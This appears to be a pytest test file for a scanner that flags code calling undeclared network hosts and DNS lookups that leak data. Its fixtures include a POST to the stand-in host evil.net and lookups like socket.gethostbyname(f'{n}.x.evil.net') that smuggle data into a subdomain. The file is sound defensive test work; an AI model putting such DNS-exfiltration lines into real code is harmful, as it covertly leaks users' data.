"""Whom the code talks to is named, and a name lookup can give away data."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from readings import asked

from kurt_ext.checks.network import check

NONE: dict[str, Any] = {}
HOST = {"network_hosts": ["api.example.com"]}
ROWS: list[tuple[str, dict[str, Any], set[tuple[str, str]]]] = [
    (
        "import httpx\ndef f():\n    httpx.get('https://api.example.com')",
        HOST,
        {("declared-network", "low")},
    ),
    (
        "import requests\ndef f():\n    requests.post('https://evil.net')",
        HOST,
        {("undeclared-network", "high")},
    ),
    ("from urllib.parse import urlsplit\nurlsplit('https://evil.net')", NONE, set()),
    ("import http\nhttp.HTTPStatus.OK", NONE, set()),
    ("import socket\ndef f(e: socket.timeout): pass", NONE, set()),
    ("URL = 'https://evil.net'", NONE, set()),
    ("def f(client):\n    return client.fetch('x')", NONE, set()),
]


@pytest.mark.parametrize(("code", "permissions", "expected"), ROWS)
def test_each_row_has_these_findings(
    tmp_path: Path, code: str, permissions: dict[str, Any], expected: set[tuple[str, str]]
) -> None:
    found = asked(check, tmp_path / "com.example.judged", code, permissions=permissions)
    assert set(found) == expected


@pytest.mark.parametrize(
    ("expression", "leaks"),
    [
        ("socket.gethostbyname(f'{n}.x.evil.net')", True),
        ("socket.gethostbyname(n + '.x.evil.net')", True),
        ("socket.getaddrinfo(f'{n}.x.evil.net', 80)", True),
        ("socket.gethostbyname('x.evil.net')", False),
        ("socket.gethostbyname(n)", False),
        ("socket.gethostbyname(f'{n}.local')", False),
    ],
)
def test_a_lookup_of_names_made_of_data_is_a_leak(
    tmp_path: Path, expression: str, leaks: bool
) -> None:
    found = asked(check, tmp_path, f"import socket\ndef f(n):\n    {expression}")
    assert (("name-lookup-leak", "critical") in found) is leaks
